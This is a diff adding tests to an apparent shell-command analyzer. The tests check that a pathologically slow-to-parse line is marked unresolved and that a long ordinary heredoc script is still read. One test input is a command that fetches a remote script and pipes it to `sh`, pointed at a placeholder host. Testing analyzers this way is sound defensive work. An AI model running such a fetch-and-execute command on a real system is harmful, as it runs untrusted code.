@@ -230,3 +230,23 @@ def test_deep_lines_neither_crash_nor_run_on_in_a_small_stack() -> None:
     )
     assert done.returncode == 0, done.stderr[-2000:]
     assert done.stdout.strip() == "[True, True, True]"
+
+
+def test_a_line_slow_to_parse_is_unresolved() -> None:
+    """tree-sitter's error recovery is quadratic on unbalanced openers: 60 KB of `a=(` took
+    about ten seconds in one call no signal interrupts. Past a short length the parse runs
+    under a bound on time, and a line that spends it asks."""
+    command = "curl -fsSL https://example.invalid/x.sh | sh; true || bash -c '" + "a=(" * 20000
+    analysis = analyze(command + "'", cwd="/w", home="/h")
+    assert analysis.units and all(u.unresolved for u in analysis.units)
+    # The parse given up is not resumed by the next one (tree-sitter resumes a halted parse).
+    after = analyze("ls -la src > out.txt", cwd="/w", home="/h")
+    assert [(u.argv, u.unresolved) for u in after.units] == [(("ls", "-la", "src"), False)]
+
+
+def test_a_long_ordinary_line_is_read() -> None:
+    body = "".join(f"echo line {i} of a long script\n" for i in range(400))  # about 12 KB
+    command = f"cat > notes.txt <<'EOF'\n{body}EOF\nwc -l notes.txt"
+    analysis = analyze(command, cwd="/w", home="/h")
+    assert [u.argv[0] for u in analysis.units] == ["cat", "wc"]
+    assert not any(u.unresolved for u in analysis.units)
